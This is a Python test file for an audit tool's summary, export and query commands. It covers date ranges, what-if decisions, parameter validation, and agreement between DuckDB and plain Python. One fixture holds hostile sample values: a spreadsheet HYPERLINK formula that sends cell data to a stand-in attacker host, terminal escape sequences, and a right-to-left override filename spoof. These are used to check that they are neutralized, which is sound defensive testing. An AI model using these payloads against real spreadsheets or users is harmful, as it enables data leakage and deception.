"""Which decisions the auditors' tools count: page views or what-ifs, by write or decision time, `to`
included everywhere (CLI, /v1/audit/summary, the dashboard), and DuckDB agreeing with plain Python."""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient

from service.audit import summary as s
from service.cli import main
from service.config import Settings
from service.web import create_app
from service.web.runtime import runtime
from tests.audit_support import Clock

DAY = datetime(2025, 6, 1, tzinfo=UTC)
RU = {"country": "RU"}
RFERL = {"publisher": "rferl"}


@dataclass
class Mixed:
    directory: Path
    client: FlaskClient  # serves /v1/audit/* and /audit on the same log


@pytest.fixture
def mixed(settings: Settings) -> Iterator[Mixed]:
    """Page views on June 1st (00:00, 12:00, 23:59:59.999999) and June 2nd (06:00), and two what-ifs
    logged on those days: one about 2025-07-04T10:00, one about 2025-06-01T06:00."""
    clock = Clock(DAY)
    app = create_app(settings.model_copy(update={"audit_http": True, "reload_interval": 0}), clock=clock)
    client = app.test_client()

    def page_view(at: datetime) -> None:
        clock.now = at
        assert client.post("/v1/decisions", json={"article": RFERL, "reader": RU}).status_code == 200

    def what_if(logged: datetime, about: str) -> None:
        clock.now = logged
        answer = client.post("/v1/decisions", json={"article": RFERL, "reader": RU, "at": about})
        assert answer.status_code == 200 and answer.get_json()["what_if"] is True

    page_view(DAY)
    page_view(DAY + timedelta(hours=12))
    what_if(DAY + timedelta(hours=12), "2025-07-04T10:00:00Z")
    page_view(DAY + timedelta(days=1) - timedelta(microseconds=1))
    page_view(DAY + timedelta(days=1, hours=6))
    what_if(DAY + timedelta(days=1, hours=6), "2025-06-01T06:00:00Z")
    yield Mixed(settings.audit_dir, client)
    runtime(app).audit.stopped()


def run(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    return result.output


def counted(directory: Path, *args: str) -> dict[str, int]:
    """Decisions per day, as `herald audit summary --format json` counts them."""
    rows = orjson.loads(run("audit", "summary", str(directory), "--format", "json", *args))
    return {row["day"]: row["decisions"] for row in rows}


@pytest.mark.parametrize(
    ("args", "days"),
    [
        ((), {"2025-06-01": 3, "2025-06-02": 1}),  # page views only, by the day they were logged
        (("--to", "2025-06-01"), {"2025-06-01": 3}),  # `to`, a day, included to its last microsecond
        (("--from", "2025-06-02", "--to", "2025-06-02"), {"2025-06-02": 1}),
        (("--to", "2025-06-01T12:00:00Z"), {"2025-06-01": 2}),  # an instant, included
        (("--to", "2025-06-01T11:59:59.999999Z"), {"2025-06-01": 1}),
        (("--what-if", "include"), {"2025-06-01": 4, "2025-06-02": 2}),
        (("--what-if", "only"), {"2025-06-01": 1, "2025-06-02": 1}),
        (("--what-if", "only", "--by", "decided"), {"2025-06-01": 1, "2025-07-04": 1}),
        (("--what-if", "include", "--by", "decided", "--to", "2025-06-01"), {"2025-06-01": 4}),
        (("--what-if", "only", "--by", "decided", "--from", "2025-07-04T10:00:00Z"), {"2025-07-04": 1}),
        (("--by", "decided", "--from", "2025-06-02"), {"2025-06-02": 1}),
    ],
)
def test_summary_counts_what_it_is_asked_for(
    mixed: Mixed, args: tuple[str, ...], days: dict[str, int]
) -> None:
    assert counted(mixed.directory, *args) == days


def test_export_leaves_what_ifs_out_unless_asked(mixed: Mixed) -> None:
    rows = list(csv.DictReader(io.StringIO(run("audit", "export", str(mixed.directory)))))
    assert len(rows) == 4 and {r["what_if"] for r in rows} == {"False"}
    rows = list(
        csv.DictReader(io.StringIO(run("audit", "export", str(mixed.directory), "--what-if", "only")))
    )
    assert [r["at"] for r in rows] == ["2025-07-04T10:00:00.000000Z", "2025-06-01T06:00:00.000000Z"]
    assert {r["what_if"] for r in rows} == {"True"}
    by_decision = run("audit", "export", str(mixed.directory), "--format", "jsonl", "--what-if", "include",
                      "--by", "decided", "--from", "2025-07-01")  # fmt: skip
    assert [orjson.loads(line)["at"] for line in by_decision.splitlines()] == ["2025-07-04T10:00:00.000000Z"]


def test_query_shows_what_ifs_unless_told_not_to(mixed: Mixed) -> None:
    found = [orjson.loads(line) for line in run("audit", "query", str(mixed.directory)).splitlines()]
    assert [r.get("what_if", False) for r in found] == [False, False, True, False, False, True]
    kept = run("audit", "query", str(mixed.directory), "--what-if", "exclude").splitlines()
    assert len(kept) == 4
    header, *rows = run("audit", "query", str(mixed.directory), "--format", "table").splitlines()
    assert "WHAT_IF" in header and [row.split()[2] for row in rows] == ["False", "False", "True"] * 2


@pytest.mark.parametrize(
    ("query", "days"),
    [
        ("", {"2025-06-01": 3, "2025-06-02": 1}),
        ("from=2025-06-01&to=2025-06-01", {"2025-06-01": 3}),
        ("to=2025-06-01T12:00:00Z", {"2025-06-01": 2}),
        ("what_if=only&by=decided", {"2025-06-01": 1, "2025-07-04": 1}),
        ("what_if=include&subdivision=0", {"2025-06-01": 4, "2025-06-02": 2}),
    ],
)
def test_http_summary_counts_as_the_cli_does(mixed: Mixed, query: str, days: dict[str, int]) -> None:
    response = mixed.client.get("/v1/audit/summary?" + query)
    assert response.status_code == 200
    assert {row["day"]: row["decisions"] for row in response.get_json()["rows"]} == days


@pytest.mark.parametrize(
    ("query", "detail"),
    [
        ("colour=red", "unknown query parameter 'colour'"),
        ("from=yesterday", "'from' must be a date (YYYY-MM-DD) or an RFC 3339 instant; got 'yesterday'"),
        ("to=2025-13-01", "'to' must be a date"),
        ("from=0001-01-01T00:00:00%2B01:00", "'from' must be a date"),
        ("from=2025-06-02&to=2025-06-01", "'from' (2025-06-02) is after 'to' (2025-06-01)"),
        ("what_if=yes", "'what_if' must be one of exclude, include, only; got 'yes'"),
        ("by=ts", "'by' must be one of logged, decided; got 'ts'"),
        ("subdivision=maybe", "'subdivision' must be one of 0, 1, false, true; got 'maybe'"),
        ("from=2025-06-01&from=2025-06-02", "'from' is given 2 times; give it once"),
    ],
)
def test_http_summary_refuses_bad_parameters(mixed: Mixed, query: str, detail: str) -> None:
    response = mixed.client.get("/v1/audit/summary?" + query)
    assert response.status_code == 400 and response.mimetype == "application/problem+json"
    assert detail in response.get_json()["detail"]


def test_the_calendar_end_is_no_error(mixed: Mixed) -> None:
    assert counted(mixed.directory, "--to", "9999-12-31") == {"2025-06-01": 3, "2025-06-02": 1}
    assert mixed.client.get("/v1/audit/summary?to=9999-12-31T23:59:59.999999Z").status_code == 200


RANGES = [
    (None, None),
    ("2025-06-01", "2025-06-02"),
    ("2025-06-01T12:00:00.000000Z", "2025-07-05"),
    ("2025-07-01", None),
]


@pytest.mark.parametrize("by", ["logged", "decided"])
@pytest.mark.parametrize("what_if", ["exclude", "include", "only"])
def test_duckdb_and_python_agree(mixed: Mixed, by: Any, what_if: Any) -> None:
    assert s.summarize([mixed.directory], by=by, what_if=what_if)  # something to agree on
    for start, end in RANGES:
        for by_subdivision in (False, True):
            options: dict[str, Any] = {"by": by, "what_if": what_if, "by_subdivision": by_subdivision}
            fast = s.summarize([mixed.directory], start, end, **options)
            assert fast == s.summarize_python([mixed.directory], start, end, **options), (start, end)


HOSTILE = {
    "publisher": "rferl",
    "id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "url": "+1\x1b[2J\x1b]0;owned\x07\r\nnext",
    "section": "-2+3",
    "tags": ["@sum(a1)", "ok", "tab\there"],
    "type": "a\u202egnp.exe",
}


def test_export_and_table_neutralize_formulas_and_control_characters(settings: Settings) -> None:
    app = create_app(settings)
    client = app.test_client()
    assert client.post("/v1/decisions", json={"article": HOSTILE, "reader": RU}).status_code == 200
    runtime(app).audit.stopped()
    (row,) = csv.DictReader(io.StringIO(run("audit", "export", str(settings.audit_dir))))
    assert row["article_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["article_url"] == "'+1[2J]0;ownednext"
    assert (row["section"], row["tags"], row["article_type"]) == ("'-2+3", "'@sum(a1);ok;tabhere", "agnp.exe")
    assert row["publisher"] == "rferl" and row["country"] == "RU"  # plain values stay as they are
    table = run("audit", "query", str(settings.audit_dir), "--format", "table", "--country", "RU")
    assert "\x1b" not in table and "\x07" not in table and "\r" not in table and "\u202e" not in table
    (line,) = table.splitlines()[1:]
    assert "'=HYPERLINK" in line
    jsonl = run("audit", "export", str(settings.audit_dir), "--format", "jsonl")
    assert orjson.loads(jsonl)["article"]["url"] == HOSTILE["url"]  # JSON keeps the record as it is


def test_without_duckdb_the_summary_is_counted_in_python(
    mixed: Mixed, monkeypatch: pytest.MonkeyPatch
) -> None:
    expected = s.summarize([mixed.directory], what_if="include", by="decided")
    monkeypatch.setitem(sys.modules, "duckdb", None)  # `import duckdb` now raises ImportError
    assert s.summarize([mixed.directory], what_if="include", by="decided") == expected
    assert counted(mixed.directory, "--to", "2025-06-01") == {"2025-06-01": 3}
